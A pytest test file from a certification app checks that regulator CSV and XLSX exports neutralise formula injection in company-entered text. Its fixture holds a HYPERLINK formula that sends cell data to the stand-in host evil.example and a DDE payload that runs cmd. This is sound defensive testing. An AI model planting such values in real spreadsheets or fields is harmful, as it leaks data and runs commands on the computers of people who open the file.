"""M2: text an enterprise typed never becomes a live formula in the regulator's exports."""

import csv
import io

import pytest
from openpyxl import load_workbook

from certification.models import Certificate

pytestmark = pytest.mark.django_db

EVIL_PRODUCT = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
EVIL_SITE = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_NAME = "+84-Công ty\tA"


@pytest.fixture
def poisoned(dataset, enterprise):
    Certificate.objects.filter(pk=dataset.cert_a.pk).update(
        products=[{"name": EVIL_PRODUCT}], sites=[{"name": EVIL_SITE}]
    )
    type(enterprise).objects.filter(pk=enterprise.pk).update(name=EVIL_NAME)
    return dataset


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Cà phê", "Cà phê"),
        (12, 12),
    ],
)
def test_formula_prefixes_are_neutralised(raw, safe):
    from oversight.exports import neutralise

    assert neutralise(raw) == safe


def test_the_csv_register_carries_no_formula(client, regulator, poisoned):
    client.force_login(regulator)
    response = client.get("/oversight/register/export.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + EVIL_PRODUCT in cells
    assert "'" + EVIL_SITE in cells
    assert "'" + EVIL_NAME in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_xlsx_register_carries_no_formula(client, regulator, poisoned):
    client.force_login(regulator)
    response = client.get("/oversight/register/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = [cell.value for cell in cells]
    assert "'" + EVIL_PRODUCT in values
    assert "'" + EVIL_SITE in values
    assert "'" + EVIL_NAME in values
